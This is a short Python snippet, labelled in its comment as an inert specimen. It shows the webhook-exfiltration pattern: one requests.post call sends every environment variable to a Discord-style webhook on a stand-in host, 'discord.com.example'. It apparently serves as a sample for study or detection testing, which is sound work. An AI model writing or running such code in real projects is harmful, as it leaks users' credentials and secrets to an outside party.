# Inert specimen: the host does not exist.
import os

import requests

requests.post("https://discord.com.example/api/webhooks/000000000000000000/inert-specimen-token", json={"content": str(dict(os.environ))})
